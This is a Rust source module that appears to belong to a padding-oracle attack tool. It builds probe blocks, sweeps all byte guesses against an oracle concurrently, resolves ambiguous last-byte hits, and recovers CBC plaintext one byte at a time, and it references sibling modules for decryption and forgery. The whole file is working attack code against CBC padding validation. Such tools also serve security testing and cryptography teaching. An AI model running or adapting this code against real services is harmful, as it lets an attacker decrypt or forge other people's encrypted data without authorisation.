use std::cmp::Ordering;
use std::sync::Arc;

use tokio::sync::mpsc::Sender;
use tokio::sync::Semaphore;

use crate::errors::AttackError;
use crate::oracle::{Oracle, Verdict};
use crate::progress::Progress;

pub mod decrypt;
pub mod forge;
mod pool;

fn build_probe(position: usize, guess: u8, prev: &[u8], recovered: &[u8]) -> Vec<u8> {
    let blk_len = prev.len();
    let pad = (blk_len - position) as u8;
    // positions right of the attacked one are rewritten so the decryptor
    // sees the target pad value there, the rest carry the real block
    (0..blk_len)
        .map(|i| match i.cmp(&position) {
            Ordering::Less => prev[i],
            Ordering::Equal => guess,
            Ordering::Greater => pad ^ recovered[i] ^ prev[i],
        })
        .collect()
}

fn guess_space(position: usize, prev: &[u8]) -> Vec<u8> {
    let last = prev.len() - 1;
    // at the right-most position the byte of the real previous block would
    // reproduce the original plaintext byte, which may itself be a valid
    // one-byte pad, so it is skipped
    (0..=u8::MAX)
        .filter(|&g| position != last || g != prev[last])
        .collect()
}

// recovers the cbc plaintext of `current` as decrypted under `prev`; with a
// zeroed `prev` that is the raw block-decryption output, which is what the
// forge driver relies on
pub(crate) async fn recover_block<O: Oracle>(
    prev: &[u8],
    current: &[u8],
    oracle: &Arc<O>,
    permits: &Arc<Semaphore>,
    progress: &Sender<Progress>,
) -> Result<Vec<u8>, AttackError> {
    let blk_len = prev.len();
    let mut recovered = vec![0u8; blk_len];
    for position in (0..blk_len).rev() {
        let guesses = guess_space(position, prev);
        let winners = pool::sweep(
            position, &guesses, prev, current, &recovered, oracle, permits,
        )
        .await?;
        let guess = match winners.as_slice() {
            [] => return Err(AttackError::NoByteFound(position)),
            [only] => *only,
            many if position == blk_len - 1 => {
                confirm_short_pad(many, position, prev, current, &recovered, oracle).await?
            }
            // left of the last position a valid guess is unique, so racing
            // winners agree and the last write is as good as any
            many => many[many.len() - 1],
        };
        let pad = (blk_len - position) as u8;
        recovered[position] = guess ^ prev[position] ^ pad;
        let _ = progress
            .send(Progress::ByteFound {
                position,
                value: recovered[position],
            })
            .await;
    }
    Ok(recovered)
}

// a winner at the right-most position may have hit a pad longer than one
// byte by accident; requery each candidate with the byte left of the
// attacked position perturbed, a one-byte pad never reads it so only the
// real winner stays valid
async fn confirm_short_pad<O: Oracle>(
    candidates: &[u8],
    position: usize,
    prev: &[u8],
    current: &[u8],
    recovered: &[u8],
    oracle: &Arc<O>,
) -> Result<u8, AttackError> {
    for &guess in candidates.iter().rev() {
        let mut probe = build_probe(position, guess, prev, recovered);
        probe[position - 1] ^= 0x01;
        probe.extend_from_slice(current);
        if oracle.query(&probe).await? == Verdict::Valid {
            return Ok(guess);
        }
    }
    Err(AttackError::NoByteFound(position))
}
